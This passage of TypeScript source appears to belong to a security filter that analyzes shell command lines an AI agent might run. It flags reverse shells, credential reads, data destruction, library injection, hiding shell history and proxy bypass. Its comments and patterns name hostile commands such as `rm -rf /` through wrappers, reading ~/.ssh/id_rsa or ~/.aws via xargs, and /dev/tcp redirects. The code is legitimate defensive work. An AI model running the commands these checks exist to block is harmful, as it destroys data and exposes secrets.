import { posix } from 'node:path';
import { classifyHost, hostOf } from '../net.js';
import { credentialInUrl, parseUrl } from '../urls.js';
import { globRead, isCriticalTree, type Level, normalizePath, sensitiveRead, sensitiveWrite } from '../sensitive.js';
import { analyzeInlineCode, vendorHost } from './inline.js';
import { type Command, echoValue, parseShell, type Script, type Word } from './parser.js';
import {
  CREDENTIAL_PRINTERS,
  CRYPTOMINERS,
  CURL_VALUE_OPTS,
  DISK_TOOLS,
  DOWNLOADERS,
  ENV_LOADERS,
  GUARD_SERVICES,
  INTERPRETERS,
  NAME_LOOKUP,
  NON_READING,
  PARALLEL_VALUE_OPTS,
  POWER,
  PRIVILEGE_TOOLS,
  PUBLISH_TARGET_OPTS,
  SECRET_VAR,
  SHELLS,
  SOCKET_TOOLS,
  SSH_VALUE_OPTS,
  STDIN_FILE_LIST,
  TUNNELS,
  WGET_VALUE_OPTS,
  WRAPPERS,
} from './tables.js';

/** What the shell analyzer found in one command line. Spans are offsets into the analyzed string. */
export interface ShellIssue {
  /** `destructive`, `remote_code`, `reverse_shell`, `credential_read`, `persistence`, `privilege_escalation`, `exfiltration`, `decode_exec`, `obfuscation`, … */
  readonly category: string;
  readonly level: Level;
  readonly score: number;
  /** Names the program and the kind of target; never echoes a secret value. */
  readonly reason: string;
  readonly start: number;
  readonly end: number;
}

export interface ShellOptions {
  /** Hosts data may go to (operator allow list); loopback is always known. */
  readonly knownHost: (host: string) => boolean;
  /** The agent's home directory when known (for `~` matching of absolute paths). */
  readonly home?: string;
}

/** Longest command line analyzed; longer ones go to review. */
export const MAX_SHELL_CHARS = 64 * 1024;
const MAX_DEPTH = 4;
/** Findings reported per command line; the verdict needs one, an operator a handful. */
const MAX_ISSUES = 32;

/** Programs that delete their arguments (judged by `remove`, not as readers of what find or a listing names). */
const REMOVERS = new Set(['rm', 'rmdir', 'unlink', 'shred', 'srm']);

const DECODERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'uudecode', 'openssl', 'gunzip', 'zcat', 'gzip', 'bzip2', 'bunzip2', 'xz', 'unxz', 'rev', 'tr', 'printf', 'echo', 'perl', 'python', 'python3']);

const SCORES: Record<string, number> = {
  remote_code: 0.97,
  reverse_shell: 0.97,
  decode_exec: 0.95,
  credential_read: 0.9,
  destructive: 0.9,
  persistence: 0.9,
  privilege_escalation: 0.9,
  exfiltration: 0.9,
  defense_evasion: 0.9,
  system_write: 0.85,
  cryptominer: 0.95,
  obfuscation: 0.8,
  private_network: 0.85,
  unparseable: 0.6,
  stdin_exec: 0.7,
  tunnel: 0.75,
  self_config: 0.8,
  recon: 0.75,
};

function basename(p: string): string {
  const i = p.lastIndexOf('/');
  return i >= 0 ? p.slice(i + 1) : p;
}

function isOpt(w: Word | undefined): boolean {
  return !!w && w.text.length > 1 && w.text.startsWith('-') && !w.dynamic;
}

/** Short-option cluster contains letter `c` (`-rf` has r and f); long options compare whole. */
function hasFlag(args: readonly Word[], short: string, ...long: string[]): boolean {
  for (const a of args) {
    const t = a.text;
    if (t === '--') break;
    if (t.startsWith('--')) {
      if (long.includes(t) || long.some((l) => t.startsWith(`${l}=`))) return true;
    } else if (t.startsWith('-') && t.length > 1 && short && /^-[A-Za-z0-9]+$/.test(t) && [...short].some((c) => t.includes(c))) return true;
  }
  return false;
}

/** Value of an option: `-o FILE`, `-oFILE`, `--output FILE`, `--output=FILE`. */
function optValues(args: readonly Word[], names: readonly string[]): Word[] {
  const out: Word[] = [];
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    for (const n of names) {
      if (t === n && args[i + 1]) out.push(args[i + 1]!);
      else if (n.startsWith('--') && t.startsWith(`${n}=`)) out.push({ ...args[i]!, text: t.slice(n.length + 1) });
      else if (!n.startsWith('--') && n.length === 2 && t.startsWith(n) && t.length > 2 && !t.startsWith('--')) out.push({ ...args[i]!, text: t.slice(2) });
    }
  }
  return out;
}

/** Positional arguments, skipping options and the values of the listed value-taking options. */
function positionals(args: readonly Word[], valueOpts?: ReadonlySet<string>): Word[] {
  const out: Word[] = [];
  let endOfOpts = false;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (!endOfOpts && a.text === '--') {
      endOfOpts = true;
      continue;
    }
    if (!endOfOpts && isOpt(a)) {
      if (valueOpts?.has(a.text)) i++;
      continue;
    }
    out.push(a);
  }
  return out;
}

interface Invocation {
  readonly name: string;
  readonly program: Word;
  readonly args: Word[];
  readonly cmd: Command;
  readonly wrappers: string[];
  /** `VAR=value` from the command prefix or `env`. */
  readonly assigns: { name: string; value?: Word }[];
  /** The program name was split around unknown variables (`c${u}url`). */
  readonly split?: boolean;
  /** Names the wrapper in reasons when the command is a shell string a wrapper runs (`watch 'cmd'`). */
  readonly label?: string;
  /** Run by xargs: its replace string (`-I R`, `-i`) and whether it reads its input from a file (`-a`). */
  readonly xargs?: { readonly replace?: string; readonly argFile: boolean; readonly delimiter?: string; readonly file?: Word };
}

const unwrapped = new WeakMap<Command, Invocation | undefined>();

function unwrap(argv: readonly Word[], cmd: Command, wrappers?: string[]): Invocation | undefined {
  if (argv !== cmd.argv || wrappers) return unwrapUncached(argv, cmd, wrappers ?? []);
  if (unwrapped.has(cmd)) return unwrapped.get(cmd);
  const inv = unwrapUncached(argv, cmd, []);
  unwrapped.set(cmd, inv);
  return inv;
}

/** A synthesized word: `sh`, `-c`, or the shell string a wrapper runs. */
function synthWord(base: Word, text: string, from: readonly Word[] = [base]): Word {
  const first = from[0] ?? base;
  const last = from[from.length - 1] ?? base;
  return {
    ...first,
    text,
    dynamic: from.some((w) => w.dynamic),
    subst: from.flatMap((w) => w.subst),
    vars: from.flatMap((w) => w.vars),
    processSubst: from.some((w) => w.processSubst),
    start: first.start,
    end: last.end,
  };
}

/** `flock F -c STRING`, `watch a b c`: the wrapper runs a shell string, judged as `sh -c STRING`. */
function asShellC(wrapperWord: Word, script: readonly Word[], cmd: Command, wrappers: string[], assigns: { name: string; value?: Word }[]): Invocation {
  const program = { ...wrapperWord, text: 'sh', dynamic: false, quoted: false, glob: false, subst: [], vars: [], processSubst: false };
  const c = synthWord(wrapperWord, '-c');
  const body = script.length > 0 ? [synthWord(script[0]!, script.map((w) => w.text).join(' '), script)] : [];
  return { name: 'sh', program, args: [{ ...c, dynamic: false, subst: [], vars: [] }, ...body], cmd, wrappers, assigns, label: `${basename(wrapperWord.text)} (via sh -c)` };
}

function unwrapUncached(argv: readonly Word[], cmd: Command, wrappers: string[]): Invocation | undefined {
  let i = 0;
  const assigns = [...cmd.assigns];
  let xargs: { replace?: string; argFile: boolean; delimiter?: string; file?: Word } | undefined;
  while (i < argv.length) {
    const w = argv[i]!;
    const name = basename(w.text);
    if (name === 'env' && !w.dynamic) {
      wrappers.push('env');
      i++;
      while (i < argv.length) {
        const t = argv[i]!.text;
        // `env -S 'rm -rf /'` splits its string into the command line (judged like `sh -c`).
        if (t === '-S' || t === '--split-string') return asShellC(w, argv.slice(i + 1), cmd, wrappers, assigns);
        if (/^-S./.test(t) || t.startsWith('--split-string=')) return asShellC(w, [{ ...argv[i]!, text: t.startsWith('-S') ? t.slice(2) : t.slice(15) }, ...argv.slice(i + 1)], cmd, wrappers, assigns);
        if (t === '-u' || t === '--unset' || t === '-C' || t === '--chdir') {
          if (t === '-u' || t === '--unset') assigns.push({ name: `-${argv[i + 1]?.text ?? ''}` });
          i += 2;
        } else if (t.startsWith('-')) i++;
        else if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(t)) {
          const eq = t.indexOf('=');
          assigns.push({ name: t.slice(0, eq), value: { ...argv[i]!, text: t.slice(eq + 1) } });
          i++;
        } else break;
      }
      continue;
    }
    const spec = WRAPPERS[name];
    if (!spec || w.dynamic) break;
    if ((name === 'command' && argv[i + 1] && /^-[vV]$/.test(argv[i + 1]!.text)) || (name === 'npx' && !argv.slice(i + 1).some((a) => a.text === '-c' || a.text === '--call'))) break;
    if (spec.applet) {
      // `busybox rm -rf /`: the applet is the command; `busybox --list` / bare `busybox` is busybox itself.
      if (!argv[i + 1] || argv[i + 1]!.text.startsWith('-')) break;
      wrappers.push(name);
      i++;
      continue;
    }
    wrappers.push(name);
    i++;
    if (name === 'xargs') xargs = { argFile: false };
    let positional = spec.positional ?? 0;
    while (i < argv.length) {
      const t = argv[i]!.text;
      if (t === '--') {
        i++;
        break;
      }
      if (spec.shell?.includes(t)) return asShellC(w, argv.slice(i + 1, i + 2), cmd, wrappers, assigns);
      if (t.startsWith('-') && t.length > 1) {
        if (xargs) {
          const next = argv[i + 1]?.text;
          if (t === '-I' && next !== undefined) xargs.replace = next;
          else if (/^-I./.test(t)) xargs.replace = t.slice(2);
          else if (t === '-i' || t === '--replace') xargs.replace = '{}';
          else if (/^-i./.test(t)) xargs.replace = t.slice(2);
          else if (t.startsWith('--replace=')) xargs.replace = t.slice(10) || '{}';
          else if (t === '-a' || t === '--arg-file' || /^-a./.test(t) || t.startsWith('--arg-file=')) {
            xargs.argFile = true;
            const file = t === '-a' || t === '--arg-file' ? argv[i + 1] : { ...argv[i]!, text: t.startsWith('-a') ? t.slice(2) : t.slice(11) };
            if (file) xargs.file = file;
          }
          else if (t === '-0' || t === '--null') xargs.delimiter = '\0';
          else if ((t === '-d' || t === '--delimiter') && next !== undefined) xargs.delimiter = next;
          else if (/^-d./.test(t)) xargs.delimiter = t.slice(2);
          else if (t.startsWith('--delimiter=')) xargs.delimiter = t.slice(12);
        }
        if (spec.values?.includes(t)) i += 2;
        else i++;
        continue;
      }
      if (spec.joins) return asShellC(w, argv.slice(i), cmd, wrappers, assigns);
      if (positional > 0) {
        positional--;
        i++;
        continue;
      }
      break;
    }
  }
  if (i >= argv.length) return wrappers.length > 0 && argv.length > 0 ? { name: wrappers[wrappers.length - 1]!, program: argv[0]!, args: argv.slice(1), cmd, wrappers: wrappers.slice(0, -1), assigns } : undefined;
  const program = argv[i]!;
  const hidden = splitName(program);
  const extra = xargs ? { xargs } : {};
  if (hidden) return { name: hidden, program: { ...program, text: hidden, dynamic: false }, args: argv.slice(i + 1), cmd, wrappers, assigns, split: true, ...extra };
  return { name: basename(program.text), program, args: argv.slice(i + 1), cmd, wrappers, assigns, ...extra };
}

/** `c${u}url`: a program name that is plain once its unknown (usually unset) variables are dropped. */
function splitName(w: Word): string | undefined {
  if (!w.dynamic || w.subst.length > 0 || w.tricky) return undefined;
  const stripped = w.text.replace(/\$\{?[A-Za-z_][A-Za-z0-9_]*\}?/g, '');
  return stripped !== w.text && /^[a-z][a-z0-9.+-]+$/.test(stripped) && /^[a-z]/i.test(w.text) ? stripped : undefined;
}

/** Items of xargs / parallel input judged one by one; the rest is judged as unknown. */
const MAX_INPUT_ITEMS = 16;

/** What a command reads on stdin, as far as the line says: `<<< text`, a heredoc, `echo … |`; `unknown` when some of it cannot be known. */
interface StdinText {
  readonly text?: string;
  readonly unknown: boolean;
}

/** Items of input text the way xargs splits them: blanks and newlines (quotes kept together), lines with `-I`, or a delimiter. */
function splitItems(text: string, mode: { delimiter?: string; lines?: boolean }): { items: string[]; more: boolean } {
  let items: string[];
  if (mode.delimiter !== undefined) {
    const d = mode.delimiter === '\\0' || mode.delimiter === '\0' ? '\0' : mode.delimiter.replace(/^\\n$/, '\n').replace(/^\\t$/, '\t').slice(0, 1) || '\n';
    items = text.split(d);
  } else if (mode.lines) items = text.split('\n').map((l) => l.replace(/^[ \t]+/, ''));
  else items = (text.match(/(?:[^\s'"]+|'[^']*'|"[^"]*")+/g) ?? []).map((t) => t.replace(/'([^']*)'|"([^"]*)"/g, '$1$2'));
  items = items.filter((t) => t !== '');
  return { items: items.slice(0, MAX_INPUT_ITEMS), more: items.length > MAX_INPUT_ITEMS };
}

/** A word standing for input the analyzer cannot know (judged like an unknown variable: `rm -rf "$X"`). */
const UNKNOWN_INPUT = '${XARGS_INPUT}';

function inputWord(cmd: Command, text: string, unknown: boolean): Word {
  return { text, dynamic: unknown, quoted: false, glob: false, subst: [], processSubst: false, vars: [], ifs: false, tricky: false, start: cmd.start, end: cmd.end };
}

/**
 * The argument lists xargs may run its command with: its own arguments plus the input items (all
 * of them, and each alone, as `-n1` would), or with `-I R` each item put where R is. Input the line
 * does not show becomes an unknown word, so `xargs rm -rf` is judged as `rm -rf "$X"`.
 */
function xargsArgs(inv: Invocation, xargs: NonNullable<Invocation['xargs']>, input: StdinText, perItem: boolean): Word[][] {
  const { items, more } = input.text !== undefined ? splitItems(input.text, { ...(xargs.delimiter !== undefined ? { delimiter: xargs.delimiter } : {}), lines: xargs.replace !== undefined }) : { items: [], more: false };
  let words = items.map((t) => inputWord(inv.cmd, t, false));
  if (input.unknown || more) words.push(inputWord(inv.cmd, UNKNOWN_INPUT, true));
  // Nested command strings get one variant, not one per item: 16 items at each of 4 levels would be 16^4 analyses.
  if (!perItem && words.length > 1) {
    if (xargs.replace !== undefined) words = [inputWord(inv.cmd, words.map((w) => w.text).join(' '), words.some((w) => w.dynamic))];
    else return [[...inv.args, ...words]];
  }
  if (xargs.replace !== undefined && xargs.replace !== '') {
    const r = xargs.replace;
    if (!inv.args.some((a) => a.text.includes(r))) return [inv.args];
    return words.map((w) => inv.args.map((a) => (a.text.includes(r) ? { ...a, text: a.text.split(r).join(w.text), dynamic: a.dynamic || w.dynamic } : a)));
  }
  if (words.length === 0) return [inv.args];
  const out = [[...inv.args, ...words]];
  if (words.length > 1) for (const w of words) out.push([...inv.args, w]);
  return out;
}

function firstOf<T>(paths: readonly string[], test: (p: string) => T | undefined): T | undefined {
  for (const p of paths) {
    const hit = test(p);
    if (hit) return hit;
  }
  return undefined;
}

function isWriteOp(op: string): boolean {
  return op === '>' || op === '>>' || op === '&>' || op === '&>>' || op === '>|' || op === '<>' || op === '>&';
}

const URL_VARIANTS_MAX = 256;

/**
 * The URLs a curl argument stands for: `{a,b}` alternatives (curl's globbing and bash brace expansion
 * alike) and `[1-9]` / `[a-z]` ranges (curl's globbing), at most URL_VARIANTS_MAX of them. An IPv6
 * literal in brackets is no range and stays as it is.
 */
function urlVariants(text: string): string[] {
  if (!/[{[]/.test(text)) return [text];
  const out: string[] = [];
  const queue = [text];
  while (queue.length > 0 && out.length < URL_VARIANTS_MAX) {
    const t = queue.shift()!;
    const brace = /\{([^{}]*)\}/.exec(t);
    const range = /\[(?:(\d+)-(\d+)|([a-zA-Z])-([a-zA-Z]))(?::\d+)?\]/.exec(t);
    const first = brace && (!range || brace.index < range.index) ? brace : range;
    if (!first) {
      out.push(t);
      continue;
    }
    const before = t.slice(0, first.index);
    const after = t.slice(first.index + first[0].length);
    let options: string[] = [];
    if (first === brace) {
      const body = brace[1]!;
      // A bash sequence `{1..5}` too.
      const seq = /^(-?\d+)\.\.(-?\d+)$/.exec(body);
      if (seq) {
        const a = Number(seq[1]);
        const b = Number(seq[2]);
        for (let n = Math.min(a, b); n <= Math.max(a, b) && options.length < URL_VARIANTS_MAX; n++) options.push(String(n));
      } else options = body.split(',');
    } else if (range![1] !== undefined) {
      const a = Number(range![1]);
      const b = Number(range![2]);
      const width = range![1]!.length;
      for (let n = Math.min(a, b); n <= Math.max(a, b) && options.length < URL_VARIANTS_MAX; n++) options.push(String(n).padStart(width, '0'));
    } else {
      const a = range![3]!.charCodeAt(0);
      const b = range![4]!.charCodeAt(0);
      for (let c = Math.min(a, b); c <= Math.max(a, b); c++) options.push(String.fromCharCode(c));
    }
    for (const o of options) queue.push(before + o + after);
  }
  return out.length > 0 ? [text, ...out] : [text];
}

function looksLikeUrl(t: string): boolean {
  return /^[a-z][a-z0-9+.-]*:\/\//i.test(t);
}

/** Analyzes one shell command line: every command of its pipelines, lists, subshells, functions and substitutions. */
export class ShellAnalyzer {
  readonly issues: ShellIssue[] = [];
  private readonly downloaded = new Set<string>();
  /** Files a decoder wrote earlier in the line (`base64 -d > x`). */
  private readonly decoded = new Set<string>();
  private readonly pipeUpstream = new WeakMap<Command, readonly Command[]>();
  /**
   * Where `cd` / `pushd` / `popd` earlier in the line moved: a normalized directory (`.` is where the
   * line started), or undefined when it cannot be known (`cd "$X"`, `cd -`, `pushd +1`, `popd` of a
   * stack this line did not fill). Relative paths are judged as written and resolved against it and
   * against every directory visited before (see `cwdCandidates`); it also resolves relative `cd`s.
   */
  private cwd: string | undefined = '.';
  private oldPwd: string | undefined;
  /** `pushd`'s directory stack, top first (undefined entries: unknown directories). */
  private readonly dirStack: (string | undefined)[] = [];
  /** Every directory the line moved into; while the current one is unknown, any of them may be it. */
  private readonly visited = new Set<string>(['.']);

  constructor(
    private readonly opts: ShellOptions,
    private readonly depth = 0,
    /** Span in the outermost string every issue of a nested analysis maps to. */
    private readonly outer?: { start: number; end: number },
    /** The directory state of the enclosing line, for `sh -c` and friends that run in it. */
    inherited?: { readonly cwd: string | undefined; readonly visited: readonly string[] },
  ) {
    if (inherited) {
      this.cwd = inherited.cwd;
      for (const v of inherited.visited) this.visited.add(v);
    }
  }

  /**
   * Directories the command may be running in: the current one, and every one the line entered
   * before. A `cd` in a subshell `( )`, a `$( )`, a pipeline element, a branch not taken or a function
   * does not move the line, and the flat list of commands does not tell those apart, so leaving a
   * directory is never taken on trust (`(cd /tmp); cat credentials` after `cd ~/.aws` is still read
   * in ~/.aws).
   */
  private cwdCandidates(): string[] {
    const cwd = this.cwd;
    return cwd === undefined ? [...this.visited] : [cwd, ...[...this.visited].filter((d) => d !== cwd)];
  }

  /** A `cd` earlier in the line moved (or may have moved) into the root, home or a system tree. */
  private get cwdCritical(): boolean {
    return this.cwdCandidates().some((d) => d !== '.' && isCriticalTree(d));
  }

  /** A path as written, normalized; when relative, also resolved against each directory the line may be in. */
  private paths(text: string): string[] {
    const n = normalizePath(text, this.opts.home);
    if (n === '' || n.startsWith('/') || n.startsWith('~') || text.startsWith('-') || looksLikeUrl(text)) return [n];
    const out = [n];
    for (const dir of this.cwdCandidates()) {
      if (dir === '.') continue;
      const r = normalizePath(posix.join(dir, n));
      if (!out.includes(r)) out.push(r);
    }
    return out;
  }

  /** A directory `cd` names, normalized against the current one; undefined when unknown. */
  private dirOf(w: Word): string | undefined {
    if (w.dynamic) return undefined;
    const n = normalizePath(w.text, this.opts.home);
    if (n.startsWith('/') || n.startsWith('~')) return n;
    if (this.cwd === undefined) return undefined;
    const r = normalizePath(posix.join(this.cwd, n));
    // `cd ~; cd ..` leaves the home directory for one whose name is not known here.
    return this.cwd.startsWith('~') && !r.startsWith('~') ? undefined : r;
  }

  /** `cd DIR`, `cd`, `cd -`, `pushd DIR`, `pushd`, `pushd +N`, `popd`, `popd +N`: where the line goes next. */
  private chdir(inv: Invocation): void {
    const { name, args } = inv;
    const rotate = args.some((a) => /^[+-]\d+$/.test(a.text));
    const noChange = args.some((a) => a.text === '-n');
    const target = positionals(args.filter((a) => !/^[+-]\d+$/.test(a.text)))[0];
    const here = this.cwd;
    let next: string | undefined = here;
    if (name === 'popd') {
      if (rotate) next = undefined;
      else if (this.dirStack.length === 0) next = undefined; // a stack from before this line, or an error: unknown
      else if (noChange) this.dirStack.shift();
      else next = this.dirStack.shift();
    } else if (name === 'pushd') {
      if (rotate) next = undefined;
      else if (!target) {
        next = this.dirStack.length > 0 ? this.dirStack.shift() : undefined;
        this.dirStack.unshift(here);
      } else {
        const dest = this.dirOf(target);
        if (dest !== undefined) this.visited.add(dest);
        if (noChange) this.dirStack.unshift(dest);
        else {
          this.dirStack.unshift(here);
          next = dest;
        }
      }
    } else {
      next = target === undefined ? '~' : target.text === '-' ? this.oldPwd : this.dirOf(target);
    }
    if (next !== here) this.oldPwd = here;
    this.cwd = next;
    if (next !== undefined) this.visited.add(next);
  }

  private readonly seen = new Set<string>();

  add(category: string, level: Level, reason: string, span: { start: number; end: number }, score?: number): void {
    const s = this.outer ?? span;
    const key = `${category}\0${level}\0${reason}\0${s.start}\0${s.end}`;
    if (this.seen.has(key) || this.issues.length >= MAX_ISSUES) return;
    this.seen.add(key);
    this.issues.push({ category, level, score: score ?? SCORES[category] ?? 0.8, reason, start: s.start, end: s.end });
  }

  analyze(source: string): this {
    if (source.length > MAX_SHELL_CHARS) {
      this.add('unparseable', 'review', `command is longer than ${MAX_SHELL_CHARS} characters and was not analyzed`, { start: 0, end: 0 });
      return this;
    }
    const script = parseShell(source);
    this.script(script, source);
    return this;
  }

  private nested(source: string, span: { start: number; end: number }, why: string): void {
    if (this.depth >= MAX_DEPTH) {
      this.add('obfuscation', 'review', `${why}: command strings nested more than ${MAX_DEPTH} deep`, span);
      return;
    }
    const inner = new ShellAnalyzer(this.opts, this.depth + 1, this.outer ?? span, { cwd: this.cwd, visited: [...this.visited] }).analyze(source);
    for (const i of inner.issues) this.add(i.category, i.level, `${why}: ${i.reason}`, i, i.score);
  }

  private inline(code: string, lang: string, span: { start: number; end: number }): void {
    for (const hit of analyzeInlineCode(code, (h) => this.known(h))) this.add(hit.category, hit.level, `${lang} inline code: ${hit.reason}`, span, hit.score);
    if (this.depth < MAX_DEPTH) {
      for (const shell of inlineShellStrings(code)) this.nested(shell, span, `${lang} inline code runs a shell command`);
    }
  }

  private script(script: Script, source: string): void {
    const before = this.issues.length;
    const byPipe = new Map<number, Command[]>();
    for (const c of script.commands) {
      if (c.pipe) {
        const list = byPipe.get(c.pipe.id) ?? [];
        list.push(c);
        byPipe.set(c.pipe.id, list);
      }
    }
    for (const cmd of script.commands) {
      const upstream = cmd.pipe ? (byPipe.get(cmd.pipe.id) ?? []).filter((u) => u.pipe!.index < cmd.pipe!.index && !u.inSubst === !cmd.inSubst) : [];
      this.pipeUpstream.set(cmd, upstream);
      this.command(cmd, upstream);
    }
    for (const members of byPipe.values()) {
      const names = members.map((c) => unwrap(c.argv, c)?.name ?? '');
      const socket = names.findIndex((n) => SOCKET_TOOLS.has(n) || n === 'openssl');
      const shell = names.findIndex((n) => SHELLS.has(n));
      if (socket >= 0 && shell >= 0) this.add('reverse_shell', 'deny', `a pipeline connects ${names[shell]} to a network socket (${names[socket]})`, members[shell]!);
    }
    for (const [name, body] of script.functions) {
      if (body.some((c) => c.argv[0]?.text === name && c.pipe)) {
        this.add('destructive', 'deny', `function "${name}" pipes into itself (fork bomb)`, { start: 0, end: source.length });
      }
    }
    if (script.errors && this.issues.length === before) {
      this.add('unparseable', 'review', 'the command has shell syntax errors, so parts of it could not be judged', { start: 0, end: source.length });
    }
  }

  private command(cmd: Command, upstream: readonly Command[]): void {
    for (const w of cmd.argv) {
      if (w.ifs) this.add('obfuscation', 'deny', 'uses $IFS to hide spaces in a command', w);
    }
    this.assignments(cmd.assigns, cmd);
    if (cmd.keyword === 'unset') {
      for (const w of cmd.argv) this.unsetVar(w.text, w);
      return;
    }
    if (cmd.keyword) {
      if (cmd.keyword === 'declare' || cmd.keyword === 'typeset' || cmd.keyword === 'export') {
        if (cmd.argv.length === 0 && cmd.assigns.length === 0) this.add('credential_read', 'review', `"${cmd.keyword}" without arguments prints the environment (may hold API keys)`, cmd);
        else if (cmd.argv.some((a) => a.text === '-p' || a.text === '-x') && cmd.assigns.length === 0 && cmd.argv.length <= 1) this.add('credential_read', 'review', `"${cmd.keyword} -p" prints the environment (may hold API keys)`, cmd);
        else if (cmd.argv.some((a) => a.text === '-p') && cmd.argv.some((a) => SECRET_VAR.test(a.text))) this.add('credential_read', 'review', `"${cmd.keyword} -p" prints a secret variable`, cmd);
      }
      return;
    }
    this.redirects(cmd);
    if (cmd.argv.length === 0) return;
    const inv = unwrap(cmd.argv, cmd);
    if (!inv) return;
    this.invocation(inv, upstream);
  }

  private redirects(cmd: Command): void {
    for (const r of cmd.redirects) {
      const t = r.target;
      if (!t) continue;
      if (/\/dev\/(?:tcp|udp)\//.test(t.text)) {
        this.add('reverse_shell', 'deny', 'redirects to a /dev/tcp or /dev/udp network socket', t);
        continue;
      }
      const norms = this.paths(t.text);
      if (isWriteOp(r.op)) {
        if (/^\d+$/.test(t.text) || t.text === '-') continue;
        const hit = firstOf(norms, sensitiveWrite);
        if (hit) this.add(hit.category, hit.level, `writes to ${hit.what} through a redirect`, t);
      } else if (r.op === '<') {
        const hit = firstOf(norms, (n) => sensitiveRead(n) ?? globRead(n));
        if (hit) this.add(hit.category, hit.level, `reads ${hit.what} through a redirect`, t);
      }
    }
  }

  private assignments(assigns: readonly { name: string; value?: Word }[], span: { start: number; end: number }): void {
    for (const a of assigns) {
      if (a.name.startsWith('-')) {
        this.unsetVar(a.name.slice(1), span);
        continue;
      }
      const value = a.value?.text ?? '';
      const where = a.value ?? span;
      if (/^(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH|DYLD_INSERT_LIBRARIES|DYLD_LIBRARY_PATH)$/.test(a.name) && value !== '') {
        this.add('privilege_escalation', 'deny', `sets ${a.name} (library injection)`, where);
      } else if (/^(?:HISTFILE|HISTSIZE|HISTFILESIZE|HISTCONTROL|HISTIGNORE)$/.test(a.name) && (value === '' || value === '0' || value === '/dev/null' || a.name === 'HISTIGNORE' || value.includes('ignorespace'))) {
        this.add('defense_evasion', 'deny', `sets ${a.name} to hide commands from shell history`, where);
      } else if (/^(?:https?_proxy|all_proxy|ftp_proxy)$/i.test(a.name)) {
        const host = hostOf(value);
        if (value === '' || (host && !this.opts.knownHost(host) && classifyHost(host).cls !== 'loopback')) this.add('defense_evasion', 'deny', `changes ${a.name} (bypasses the egress proxy)`, where);
      } else if (/^no_proxy$/i.test(a.name) && /(?:^|,)\s*\*/.test(value)) {
        this.add('defense_evasion', 'deny', `sets ${a.name}=* (bypasses the egress proxy)`, where);
      } else if (/^(?:PROMPT_COMMAND|BASH_ENV|ENV|ZDOTDIR)$/.test(a.name) && value !== '') {
        this.add('persistence', 'review', `sets ${a.name} (runs code in later shells)`, where);
      } else if (a.name === 'PATH' && /(?:^|:)(?:\.|\/tmp[^:]*|\/dev\/shm[^:]*)(?::|$)/.test(value)) {
        this.add('privilege_escalation', 'review', 'puts a writable directory on PATH (command hijacking)', where);
      }
    }
  }

  private unsetVar(name: string, span: { start: number; end: number }): void {
    if (/^(?:HISTFILE|HISTSIZE)$/.test(name)) this.add('defense_evasion', 'deny', `unsets ${name} to hide commands from shell history`, span);
    else if (/^(?:https?_proxy|all_proxy)$/i.test(name)) this.add('defense_evasion', 'deny', `unsets ${name} (bypasses the egress proxy)`, span);
  }

  private invocation(inv: Invocation, upstream: readonly Command[]): void {
    if (inv.xargs) {
      // xargs appends what it reads (or puts it where `-I R` says): judge the command with those arguments.
      const { xargs, ...rest } = inv;
      // `xargs -a ~/.ssh/id_rsa echo` prints the file as arguments.
      const fileHit = xargs.file ? firstOf(this.paths(xargs.file.text), (n) => sensitiveRead(n) ?? globRead(n)) : undefined;
      if (fileHit && xargs.file) this.add(fileHit.category, fileHit.level, `xargs reads ${fileHit.what} (-a)`, xargs.file);
      // `find ~/.aws -type f | xargs cat`: a reader run on the files a listing of a credential directory names.
      if (!NON_READING.has(inv.name) && !REMOVERS.has(inv.name)) this.listedSecrets(inv, upstream, `${inv.name} (via xargs)`);
      for (const args of xargsArgs(inv, xargs, this.inputOf(inv.cmd, upstream, xargs.argFile), this.depth === 0)) this.invocation({ ...rest, args }, upstream);
      return;
    }
    const { name, program, args, cmd } = inv;
    if (inv.assigns !== cmd.assigns) this.assignments(inv.assigns.slice(cmd.assigns.length), cmd);
    for (const w of inv.wrappers) {
      const spec = WRAPPERS[w];
      if (spec?.elevates) this.add('privilege_escalation', 'deny', `runs a command as another user (${w})`, cmd);
      if (w === 'torsocks' || w === 'proxychains' || w === 'proxychains4') this.add('defense_evasion', 'deny', `routes traffic through ${w} (bypasses the egress proxy)`, cmd);
      if (w === 'systemd-run' && cmd.argv.some((a) => /^--on-(?:calendar|active|boot|startup|unit-active|unit-inactive)/.test(a.text))) this.add('persistence', 'deny', 'systemd-run schedules a timer', cmd);
    }
    if (inv.split) this.add('obfuscation', 'deny', `program name "${name}" is split around an unset variable`, inv.cmd);
    if (program.dynamic) {
      const sub = this.substKind(program);
      if (sub === 'download') this.add('remote_code', 'deny', 'runs a program name produced by a download', program);
      else if (sub === 'decode') this.add('decode_exec', 'deny', 'runs a program name produced by decoding data', program);
      else if (program.tricky) this.add('obfuscation', 'deny', 'the program name is assembled with parameter-expansion tricks', program);
      else if (!/^\$\{?(?:SHELL|EDITOR|VISUAL|PAGER|PYTHON|NODE|CC|CXX|MAKE|GIT|npm_execpath)\}?$/.test(program.text)) {
        this.add('obfuscation', 'review', 'the program to run is computed at run time', program);
      }
      return;
    }
    if (program.quoted && /^[\w.+-]+$/.test(program.text) && !program.text.includes('/')) {
      this.add('obfuscation', 'review', `program name "${name}" is written with quotes or escapes`, program);
    }
    if (this.downloaded.has(normalizePath(program.text, this.opts.home))) {
      this.add('remote_code', 'deny', 'runs a file downloaded earlier in the same command', program);
    }
    if (this.decoded.has(normalizePath(program.text, this.opts.home))) {
      this.add('decode_exec', 'deny', 'runs a file decoded earlier in the same command', program);
    }
    if (program.glob && /[?*[]/.test(program.text)) {
      this.add('obfuscation', 'deny', 'the program name is a glob pattern (hides which program runs)', program);
    }
    if (name === 'cd' || name === 'pushd' || name === 'popd') this.chdir(inv);
    this.readsAndWrites(inv);
    this.stdinFileList(inv, upstream);
    this.secretVars(inv);
    if (SHELLS.has(name) || name === 'eval' || name === 'source' || name === '.') this.shellLike(inv, upstream);
    else if (name in INTERPRETERS) this.interpreter(inv, upstream);
    this.specific(inv, upstream);
  }

  /** What the substitutions in a word run: a download, a decoder, or something else. */
  private substKind(w: Word): 'download' | 'decode' | 'other' | undefined {
    if (w.subst.length === 0) return undefined;
    let kind: 'download' | 'decode' | 'other' = 'other';
    for (const c of w.subst) {
      const inv = unwrap(c.argv, c);
      if (!inv) continue;
      if (DOWNLOADERS.has(inv.name) && !this.isLocalOnly(inv)) return 'download';
